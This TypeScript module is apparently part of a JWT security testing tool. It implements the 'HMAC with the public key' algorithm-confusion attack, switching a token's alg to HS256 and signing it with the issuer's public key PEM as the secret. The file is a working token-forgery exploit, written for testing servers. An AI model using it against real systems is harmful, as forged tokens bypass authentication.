import { type CryptoKey, exportSPKI, importJWK, type JWK } from 'jose'
import { usualAlgorithm } from '../../pipeline/keys/algorithms'
import { base64urlOf } from '../../pipeline/encoding/segments'
import { compact } from '../../playground/json-text'
import { signCompact } from '../../signing/sign'
import { defineAttack, type Unable } from '../attack'
import { valueIn, withMembers } from '../parts'

const unknown: Unable = {
  says: 'This needs the issuer’s public key, and none is known here.',
  fix: 'Paste its key set under My server: whoever attacks can fetch it too.',
}

export default defineAttack({
  id: 'hmac-public-key',
  name: 'HMAC with the public key',
  hopes: 'that the server verifies whatever alg says, with the public key taken for a shared secret.',
  scenario: 'alg-confusion',
  async apply({ header, payload, keys }) {
    const published = keys.filter(({ kty }) => kty === 'RSA' || kty === 'EC' || kty === 'OKP')
    const kid = valueIn(header, 'kid')
    const pem = await pemOf(published.find((key) => key.kid === kid) ?? published[0])
    if (pem === null) return unknown
    const secret: JWK = { kty: 'oct', k: base64urlOf(pem) }
    const token = await signCompact(compact(withMembers(header, { alg: 'HS256' })), compact(payload), secret, 'HS256')
    return { token, did: 'Signed with HS256, and the PEM of the issuer’s public key as its secret.' }
  },
})

/** `null` for a key that WebCrypto does not take. */
async function pemOf(jwk: JWK | undefined): Promise<string | null> {
  if (!jwk) return null
  try {
    const { use: _, key_ops: __, ...material } = jwk
    const key = await importJWK(material, usualAlgorithm(jwk)?.name ?? '', { extractable: true })
    return await exportSPKI(key as CryptoKey)
  } catch {
    return null
  }
}
